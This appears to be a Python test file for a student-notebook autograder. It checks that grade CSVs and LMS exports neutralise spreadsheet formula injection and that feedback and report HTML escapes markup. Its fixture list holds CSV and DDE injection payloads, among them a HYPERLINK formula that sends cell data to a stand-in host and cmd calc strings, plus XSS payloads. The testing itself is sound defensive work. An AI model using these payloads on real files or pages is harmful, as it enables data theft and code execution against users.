"""학생에게서 온 글자(학번, 이름, 예외 메시지)가 내보내는 파일에서 해를 끼치지 않는가.

- grades.csv와 LMS용 CSV: 스프레드시트가 수식으로 읽는 글자(=, +, -, @, 탭, CR)로 시작하는 칸이 없다.
- 피드백과 보고서 HTML: 태그가 그대로 들어가지 않고 글자로 보인다.
"""
from __future__ import annotations

import csv

import pytest

from grader import _csvsafe, _feedback, _report
from grader._autograde import after_kernel_death, write_csv

HOSTILE_IDS = [
    '=HYPERLINK("http://evil.example/?"&A1,"보기")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "<img src=x onerror=alert(1)>",
]
HOSTILE_MESSAGE = "함수 실행 중 오류 ValueError: <script>alert('xss')</script> =1+1"


def _read(path):
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def _rows():
    return [{"student_id": sid, "chapter": "ch01", "ex": 1.0, "total": 1.0, "max_total": 4.0,
             "status": f"=ERROR {i}" if i % 2 else "ok"} for i, sid in enumerate(HOSTILE_IDS)]


def test_grades_csv_never_starts_a_formula(tmp_path):
    path = tmp_path / "grades.csv"
    write_csv(path, _rows(), ["ex"])
    table = _read(path)
    assert len(table) == len(HOSTILE_IDS) + 1
    for row in table:
        for value in row:
            assert not value.startswith(_csvsafe.FORMULA_START), (value, row)
    # 글자는 그대로 남는다: 앞의 ' 하나만 붙는다. 점수는 숫자 그대로다
    assert [r[0] for r in table[1:]] == ["'" + s if s != HOSTILE_IDS[-1] else s for s in HOSTILE_IDS]
    assert table[1][2:5] == ["1", "1", "4"]


def test_csv_cell_leaves_plain_text_and_numbers_alone():
    assert _csvsafe.cell("2025001") == "2025001"
    assert _csvsafe.cell("홍 길동") == "홍 길동"
    assert _csvsafe.cell(3.0) == "3" and _csvsafe.cell(0.5) == "0.5"
    assert _csvsafe.cell(None) == ""
    assert _csvsafe.cell("-1") == "'-1"   # 글자로 온 것은 숫자처럼 보여도 거른다


def test_feedback_page_escapes_hostile_ids_and_messages():
    for sid in HOSTILE_IDS:
        row = {"student_id": sid, "chapter": "ch01", "ex": 0.0, "total": 0.0, "max_total": 3.0,
               "status": f"ok; renamed: {sid}"}
        page = _feedback.render(row, {"ex": 3.0}, {"ex-tests-1": (0.0, 3.0)}, {"ex-tests-1": HOSTILE_MESSAGE})
        assert "<script>" not in page and "<img src=x" not in page
        assert "&lt;script&gt;alert(&#x27;xss&#x27;)&lt;/script&gt;" in page
    assert "&lt;img src=x onerror=alert(1)&gt;" in page


def test_report_page_escapes_hostile_ids_and_messages():
    rows = [{"student_id": sid, "chapter": "ch01", "ex": 0.0, "total": 0.0, "max_total": 3.0,
             "status": f"kernel-died: {sid}"} for sid in HOSTILE_IDS]
    details = {sid: {"seconds": 1.0, "messages": {"ex-tests-1": HOSTILE_MESSAGE}} for sid in HOSTILE_IDS}
    page = _report.render(_report.summarize("ch01", rows, {"ex": 3.0}, details))
    assert "<script>" not in page and "<img src=x" not in page
    assert "&lt;script&gt;" in page and "&lt;img src=x onerror=alert(1)&gt;" in page


EXERCISES = {"ex1": 3.0, "ex2": 1.0, "ex3": 2.0}
# 채점 노트북의 셀: 0 준비, 1 ex1 답, 2 ex1 테스트, 3 ex2 답, 4 학생이 덧붙인 셀, 5 ex2 테스트, 6 ex3 답, 7 ex3 테스트
OWNERS = [None, "ex1", "ex1", "ex2", "ex2", "ex2", "ex3", "ex3"]


def _judged():
    # 결과 파일이 모두 있다고 하자 (학생이 커널을 죽이기 전에 뒤 문제의 가짜 결과를 써 두었을 수도 있다)
    return {"ex1-tests-1": (3.0, 3.0), "ex2-tests-1": (1.0, 1.0), "ex3-tests-1": (2.0, 2.0)}, {}


@pytest.mark.parametrize("died_at, where, kept", [
    (4, "ex2", {"ex1-tests-1": 3.0, "ex2-tests-1": 0.0, "ex3-tests-1": 0.0}),
    (1, "ex1", {"ex1-tests-1": 0.0, "ex2-tests-1": 0.0, "ex3-tests-1": 0.0}),
    (7, "ex3", {"ex1-tests-1": 3.0, "ex2-tests-1": 1.0, "ex3-tests-1": 0.0}),
    (0, "준비 셀(setup)", {"ex1-tests-1": 0.0, "ex2-tests-1": 0.0, "ex3-tests-1": 0.0}),
])
def test_kernel_death_keeps_earlier_points_only(died_at, where, kept):
    tests, messages = _judged()
    got = after_kernel_death({"kernel_died": True, "died_at": died_at}, OWNERS, EXERCISES, tests, messages)
    assert got == where
    assert {k: v[0] for k, v in tests.items()} == kept
    assert set(messages) == {k for k, v in kept.items() if v == 0}
    assert all(where in m and " / " in m for m in messages.values())


def test_no_kernel_death_changes_nothing():
    tests, messages = _judged()
    assert after_kernel_death({"kernel_died": False, "died_at": 3}, OWNERS, EXERCISES, tests, messages) is None
    assert tests == _judged()[0] and messages == {}


def test_lms_exports_have_id_total_and_feedback_file(tmp_path):
    from grader._autograde import write_lms_csv
    from grader._submissions import Submission
    subs = [Submission("12345", name="=Kim Minsu", lms="moodle"), Submission("67890", name="kimminsu", lms="canvas"),
            Submission("2025001")]
    rows = [{"student_id": s.student_id, "total": t, "max_total": 4.0} for s, t in zip(subs, (4.0, 3.5, 0.0))]
    written = write_lms_csv(tmp_path, "ch01", rows, subs)
    assert [p.name for p in written] == ["lms_grades.csv", "moodle_grading_worksheet.csv", "canvas_gradebook.csv"]
    assert _read(written[0]) == [["student_id", "name", "total", "max_total", "feedback_file"],
                                 ["12345", "'=Kim Minsu", "4", "4", "12345.html"],
                                 ["67890", "kimminsu", "3.5", "4", "67890.html"],
                                 ["2025001", "", "0", "4", "2025001.html"]]
    assert _read(written[1])[1] == ["Participant 12345", "'=Kim Minsu", "4", "4", "feedback/12345.html"]
    assert _read(written[2]) == [["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "ch01"],
                                 ["kimminsu", "67890", "", "", "", "3.5"]]
